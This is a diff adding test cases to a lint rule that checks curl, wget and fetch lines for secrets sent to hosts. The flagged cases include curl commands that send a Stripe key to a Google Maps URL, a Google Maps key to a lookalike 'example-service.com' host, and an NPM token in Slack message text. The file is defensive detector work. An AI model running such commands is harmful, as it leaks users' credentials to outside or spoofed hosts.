@@ -67,6 +67,8 @@ await ruleTester(rule, {
     { code: 'curl -F token=$CODECOV_TOKEN -F file=@coverage.xml https://ingest.codecov.io/upload/v4', filename: 'run.sh' },
     { code: 'curl -F file=@report.txt -F channels=C1 -F token=$SLACK_BOT_TOKEN https://slack.com/api/files.upload', filename: 'run.sh' },
     { code: 'curl -d token=$SLACK_TOKEN -d text=hi https://slack.com/api/chat.postMessage', filename: 'run.sh' },
+    { code: 'curl "https://maps.googleapis.com/maps/api/geocode/json?address=x&key=$GOOGLE_MAPS_API_KEY"\ncurl -d @a.json "https://generativelanguage.googleapis.com/v1beta/models/m:generateContent?key=$GEMINI_API_KEY"', filename: 'run.sh' },
+    { code: 'curl "https://api.openweathermap.org/data/2.5/weather?q=Rome&appid=$API_KEY"\ncurl "https://api.themoviedb.org/3/movie/1?api_key=$TMDB_KEY"', filename: 'run.sh' },
     { code: 'curl "https://api.weatherly.dev/v1/now?q=Rome&api_key=$WEATHERLY_API_KEY"\ncurl -F token=$WEATHERLY_TOKEN -F file=@a https://weatherly.dev/upload', filename: 'run.sh' },
     { code: 'wget --post-data "token=$CI_JOB_TOKEN&ref=main" https://gitlab.com/api/v4/projects/1/trigger/pipeline', filename: 'run.sh' },
     { code: 'const f = new FormData(); f.append("token", process.env.CI_JOB_TOKEN); f.append("ref", "main"); fetch(`${process.env.CI_API_V4_URL}/projects/1/trigger/pipeline`, { method: "POST", body: f });' },
@@ -151,6 +153,8 @@ await ruleTester(rule, {
     { code: 'curl -d "text=$NPM_TOKEN" https://slack.com/api/chat.postMessage', filename: 'run.sh', errors: [{ messageId: 'sent' }] },
     { code: 'curl -d "text=$SLACK_TOKEN" https://slack.com/api/chat.postMessage', filename: 'run.sh', errors: [{ messageId: 'sent' }] },
     { code: 'curl -d token=$SLACK_TOKEN http://slack.com/api/chat.postMessage', filename: 'run.sh', errors: [{ messageId: 'sent' }] },
+    { code: 'curl "https://maps.googleapis.com/maps/api/geocode/json?key=$STRIPE_API_KEY"', filename: 'run.sh', errors: [{ messageId: 'sent' }] },
+    { code: 'curl "https://maps.googleapis.example-service.com/maps/api?key=$GOOGLE_MAPS_API_KEY"', filename: 'run.sh', errors: [{ messageId: 'sent' }] },
     // A key of another service, in a text, over plain http, to a rented subdomain, to a longer name, of a service that has rows.
     { code: 'curl "https://api.weatherly.dev/v1/now?api_key=$SUNNY_API_KEY"', filename: 'run.sh', errors: [{ messageId: 'sent' }] },
     { code: 'curl -d "text=$WEATHERLY_API_KEY" https://api.weatherly.dev/v1', filename: 'run.sh', errors: [{ messageId: 'sent' }] },
